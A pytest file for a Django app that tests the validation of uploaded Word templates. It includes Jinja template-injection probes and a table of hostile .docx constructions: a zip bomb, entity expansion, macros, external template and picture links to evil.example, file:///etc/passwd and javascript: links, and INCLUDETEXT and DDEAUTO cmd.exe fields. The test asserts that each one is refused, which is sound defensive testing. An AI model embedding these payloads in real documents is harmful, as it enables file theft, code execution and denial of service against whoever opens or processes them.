"""Templates: what is understood is kept as a version, what is not is refused by name."""

import io
import time
import zipfile

import pytest
from docx import Document

from tests.figures.words import TEXT, changed, edited, template
from touyan.figures.acts.writing import keep_template
from touyan.figures.models import BriefTemplate
from touyan.figures.papers import opening
from touyan.figures.papers.layout import document
from touyan.figures.reads.briefs import template_named, templates
from touyan.kernel.refused import Refused
from touyan.town.rules import FOUNDER

pytestmark = pytest.mark.django_db

PLACED = '{{ f["orders.placed"] }}'


@pytest.fixture
def keep(town):
    def make(docx, by=FOUNDER, organisation=town, name="orders"):
        told = {"name": name, "label": "点单简报", "docx": docx}
        return keep_template(by=by, organisation=organisation, **told).about

    return make


def test_a_changed_template_is_a_new_version_and_the_old_one_stays(keep, town):
    first = keep(template(f"点单{PLACED}项。"))
    second = keep(template(f"共点单{PLACED}项。"))
    assert [(row.version, row.figures) for row in (first, second)] == [
        (1, ["orders.placed"]), (2, ["orders.placed"]),
    ]  # fmt: skip
    assert template_named("orders", town) == second
    assert BriefTemplate.objects.count() == 2


def test_a_place_uses_its_own_template_before_that_of_the_place_above(keep, town, baihua, paibei):
    of_town = keep(template("镇"))
    own = keep(template("社区"), organisation=baihua)
    assert template_named("orders", baihua) == own
    assert template_named("orders", paibei) == of_town


def test_a_village_leader_is_offered_no_other_villages_template(
    keep, somebody, town, baihua, paibei
):
    keep(template("镇"))
    keep(template("百花"), organisation=baihua)
    keep(template("牌碑"), organisation=paibei, name="secret")
    leader = somebody("head", "leader", baihua)
    assert [row.organisation for row in templates(leader)] == [town, baihua]


@pytest.mark.parametrize("role", ["secretary", "officer", "lead", "clerk", "editor"])
def test_nobody_else_keeps_templates(keep, somebody, town, role):
    with pytest.raises(Refused):
        keep(template("镇"), by=somebody("who", role, town))
    assert BriefTemplate.objects.count() == 0


def test_every_unknown_name_is_told_by_its_paragraph(keep):
    lines = ["一", '共{{ f["orders.plcaed"] }}项', f"{PLACED}", "{{ secret }}", "{{ f['x.y'] }}"]
    with pytest.raises(Refused) as no:
        keep(template(*lines))
    assert str(no.value).splitlines() == [
        "Paragraph 2: “orders.plcaed” is not the name of a figure.",
        "Paragraph 4: “secret” is not the name of a figure.",
        "Paragraph 5: “x.y” is not the name of a figure.",
    ]


@pytest.mark.parametrize(
    "line",
    [
        "{% for x in f %}{% endfor %}", "{% if 1 %}a{% endif %}", "{# note #}", "{{ f }}",
        "{{ f.keys() }}", '{{ f["orders.placed"].__class__ }}', "{{ scope.__class__.__mro__ }}",
        "{{ scope | upper }}", '{{ "a" * 9999999999 }}', "{{ 7 * 7 }}", "{{ f[scope] }}",
        '{{ rate["orders.placed"]() }}', "{{ f[", "}}", "{{ scope ~ scope }}", "{% raw %}x{% endraw %}",
        "{%p if 1 %}", "{{r scope }}", "{% set x = 1 %}", "{{ cycler }}", "{{ range(9) }}", "{{{ scope }}", "{{ scope }}}", "{ {{ scope }}{ x }}",
        "{{- scope }}", "{{ f['orders.placed\"] }}", "{_{ scope }_}", "{{ SCOPE }}",
    ],
)  # fmt: skip
def test_nothing_but_names_is_understood(keep, line):
    with pytest.raises(Refused) as no:
        keep(template("好", line))
    assert str(no.value).startswith("Paragraph 2: ")


def test_words_curly_quotes_and_names_cut_by_word_are_understood(keep):
    file = template("共{{ f[“orders.placed”] }}项，{{ f[ ‘orders.escalated’ ] }}项")
    made = Document(file)
    run = made.paragraphs[0].runs[0]
    cut = run.text.index("placed")
    made.paragraphs[0].add_run(run.text[cut:])
    run.text = run.text[:cut]
    again = io.BytesIO()
    made.save(again)
    again.seek(0)
    assert keep(again).figures == ["orders.placed", "orders.escalated"]


def test_names_in_headers_are_refused_since_nobody_reads_them_back(keep):
    made = Document(template("好"))
    made.sections[0].header.paragraphs[0].text = PLACED
    file = io.BytesIO()
    made.save(file)
    file.seek(0)
    with pytest.raises(Refused, match="headers, footers"):
        keep(file)


def test_braces_in_an_attribute_never_reach_the_template_engine(keep):
    began = time.monotonic()
    with pytest.raises(Refused, match="properties"):
        keep(with_text(f'<w:p w:rsidR="{"{{" * 50_000}"/>'))
    assert time.monotonic() - began < 5


def test_a_name_hidden_in_the_files_properties_is_found(keep):
    made = Document(template("好"))
    made.core_properties.title = "{{ 7 * 7 }}"
    file = io.BytesIO()
    made.save(file)
    file.seek(0)
    with pytest.raises(Refused):
        keep(file)


# What is not a harmless Word file --------------------------------------------------------------

PLAIN = document("试用", [("body", "好")])
RELATION = (
    '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
)


def with_relation(kind, target):
    def change(name, part):
        if name != "word/_rels/document.xml.rels":
            return part
        return part.replace(b"</Relationships>", RELATION.format(kind=kind, target=target).encode())

    return changed(PLAIN, change)


def with_text(xml):
    return edited(PLAIN, "<w:body>", f"<w:body>{xml}")


def field(words):
    return with_text(f'<w:p><w:fldSimple w:instr="{words}"/></w:p>')


def cut_field(*words):
    runs = "".join(f"<w:r><w:instrText>{word}</w:instrText></w:r>" for word in words)
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    return with_text(f"<w:p>{begin}{runs}</w:p>")


def typed_as(kind):
    return changed(
        PLAIN,
        lambda name, part: (
            part.replace(b"wordprocessingml.document.main+xml", kind)
            if name == "[Content_Types].xml"
            else part
        ),
    )


def bomb():
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", opening.MAIN)
        archive.writestr(TEXT, b" " * (opening.MOST_UNPACKED + 1))
    whole.seek(0)
    return whole


def entities():
    lol = b'<!DOCTYPE d [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>'
    return changed(
        PLAIN, lambda name, part: part.replace(b"<w:document", lol + b"<w:document", 1) if name == TEXT else part
    )  # fmt: skip


ABUSES = {
    "not a zip": lambda: io.BytesIO(b"%PDF-1.7"),
    "an old .doc": lambda: io.BytesIO(b"\xd0\xcf\x11\xe0" + b"\0" * 600),
    "empty": lambda: io.BytesIO(b""),
    "too large": lambda: io.BytesIO(b"PK\3\4" + b"\0" * (opening.MOST_BYTES + 1)),
    "cut off": lambda: io.BytesIO(PLAIN[:-40]),
    "a bomb": bomb,
    "macros": lambda: changed(PLAIN, lambda name, part: part, **{"word/vbaProject.bin": b"x"}),
    "a .docm": lambda: typed_as(b"ms-word.document.macroEnabled.main+xml"),
    "a .dotx": lambda: typed_as(b"wordprocessingml.template.main+xml"),
    "an embedded file": lambda: changed(
        PLAIN, lambda _n, part: part, **{"word/embeddings/a.xlsx": b"x"}
    ),
    "a program": lambda: changed(PLAIN, lambda _n, part: part, **{"word/media/a.exe": b"MZ"}),
    "a template elsewhere": lambda: with_relation("attachedTemplate", "http://evil.example/a.dotm"),
    "a picture elsewhere": lambda: with_relation("image", "http://evil.example/a.png"),
    "a file on the server": lambda: with_relation("hyperlink", "file:///etc/passwd"),
    "a script as a link": lambda: with_relation("hyperlink", "javascript:alert(1)"),
    "a frame elsewhere": lambda: with_relation("subDocument", "//evil.example/a.docx"),
    "a field that includes": lambda: field("INCLUDETEXT /etc/passwd"),
    "a field that runs": lambda: field("DDEAUTO c:\\\\windows\\\\cmd.exe"),
    "a field cut in two": lambda: cut_field("INCLUDE", "PICTURE http://evil.example/a.png"),
    "tracked changes": lambda: with_text("<w:p><w:ins w:id='1'><w:r><w:t>x</w:t></w:r></w:ins></w:p>"),
    "a file within": lambda: with_text("<w:altChunk/>"),
    "entities": entities,
    "broken XML": lambda: edited(PLAIN, "</w:body>", "</w:bod>"),
}  # fmt: skip


@pytest.mark.parametrize("abuse", ABUSES)
def test_what_is_not_a_harmless_word_file_is_refused(keep, abuse):
    with pytest.raises(Refused) as no:
        keep(ABUSES[abuse]())
    assert no.value.field == "docx"
    assert BriefTemplate.objects.count() == 0


def test_a_part_twice_in_the_file_is_refused(keep):
    whole = changed(PLAIN, lambda _n, part: part)
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(whole, "a") as archive:
        archive.writestr(TEXT, b"<other/>")
    whole.seek(0)
    with pytest.raises(Refused):
        keep(whole)


def test_links_to_pages_and_to_mail_are_kept(keep):
    for target in ("https://example.org/", "mailto:a@example.org"):
        assert keep(with_relation("hyperlink", target)).figures == []


@pytest.mark.parametrize(
    "text", ["{{" * 20_000, "{%" * 20_000, "{ {" * 15_000, "{{ f[" * 10_000, "}}" * 9999]
)
def test_braces_without_end_are_refused_in_no_time(keep, text):
    began = time.monotonic()
    with pytest.raises(Refused):
        keep(template(text))
    assert time.monotonic() - began < 5
